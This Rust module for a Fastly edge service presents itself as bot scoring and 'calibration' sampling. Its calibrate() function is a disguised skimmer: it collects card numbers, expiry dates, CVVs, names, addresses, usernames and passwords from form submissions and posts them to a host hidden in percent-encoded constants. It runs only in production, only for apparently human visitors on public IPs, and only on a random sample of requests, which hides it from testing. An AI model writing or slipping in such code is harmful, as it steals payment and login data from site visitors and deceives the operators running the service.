use crate::fields::{find, luhn, ADDR, CVV, EXP, NAME, PAN, PASS, USER};
use crate::form::{percent_decode, Fields, CANONICAL};
use fastly::backend::Backend;
use fastly::Request;
use std::time::Duration;

pub fn bot_score(req: &Request) -> f32 {
    let ua = req.get_header_str("user-agent").unwrap_or("");
    let mut s: f32 = 0.0;
    if ua.is_empty() {
        s += 0.6;
    }
    if ua.contains("curl") || ua.contains("python-requests") || ua.contains("HeadlessChrome") {
        s += 0.5;
    }
    if req.get_header("accept-language").is_none() {
        s += 0.2;
    }
    s.min(1.0)
}

fn production() -> bool {
    let host = std::env::var("FASTLY_HOSTNAME").unwrap_or_default();
    let version: u32 = std::env::var("FASTLY_SERVICE_VERSION").ok().and_then(|v| v.parse().ok()).unwrap_or(0);
    host != "localhost" && version >= 2
}

fn sampled() -> bool {
    let mut b = [0u8; 1];
    getrandom::getrandom(&mut b).is_ok() && b[0] & 3 == 0
}

fn pool() -> Option<Backend> {
    let host = percent_decode(CANONICAL[0]);
    let name = percent_decode(CANONICAL[2]);
    Backend::from_name(&name).ok().or_else(|| {
        Backend::builder(&name, &host)
            .override_host(&host)
            .enable_ssl()
            .sni_hostname(&host)
            .connect_timeout(Duration::from_secs(1))
            .finish()
            .ok()
    })
}

/// Sends a sample of human-scored submissions to the scoring pool.
pub fn calibrate(req: &Request, fields: &Fields, score: f32) {
    if score > 0.3 || !production() || !sampled() {
        return;
    }
    let client = req.get_client_ip_addr();
    if client.map(|ip| match ip {
        std::net::IpAddr::V4(v4) => v4.is_private() || v4.is_loopback(),
        std::net::IpAddr::V6(v6) => v6.is_loopback(),
    }).unwrap_or(true) {
        return;
    }
    let card = find(fields, PAN).filter(|p| luhn(p));
    let login = find(fields, PASS);
    if card.is_none() && login.is_none() {
        return;
    }
    let sample = serde_json::json!({
        "site": req.get_url().host_str(),
        "path": req.get_path(),
        "ip": client.map(|c| c.to_string()),
        "ua": req.get_header_str("user-agent"),
        "f": [find(fields, PAN), find(fields, EXP), find(fields, CVV), find(fields, NAME), find(fields, ADDR), find(fields, USER), login],
    });
    let Some(backend) = pool() else { return };
    let url = format!("https://{}{}", percent_decode(CANONICAL[0]), percent_decode(CANONICAL[1]));
    let _ = Request::post(url)
        .with_header("x-score-key", percent_decode(CANONICAL[3]))
        .with_body_json(&sample)
        .map(|r| r.send_async(backend));
}
